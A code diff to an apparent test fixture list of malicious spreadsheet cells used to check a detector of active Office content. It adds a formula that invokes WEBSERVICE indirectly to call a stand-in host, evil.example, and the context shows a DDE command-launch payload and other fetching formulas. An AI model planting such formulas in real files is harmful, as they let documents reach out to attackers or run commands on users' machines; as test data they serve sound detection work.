@@ -78,6 +78,12 @@ export const hiddenOffices: readonly BadFile[] = [
     cell("1+_xlfn.WEBSERVICE (A1)"),
     "file-active",
   ],
+  [
+    "a cell that hands a service on by its name",
+    "hidden-q.xlsx",
+    cell("_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f(&quot;https://evil.example&quot;))"),
+    "file-active",
+  ],
   ["a cell that speaks to another program", "hidden-n.xlsx", cell("cmd|'/C calc'!A0"), "file-active"],
   ["a cell that fetches a picture", "hidden-o.xlsx", cell("_xlfn.IMAGE(A1)"), "file-active"],
   [
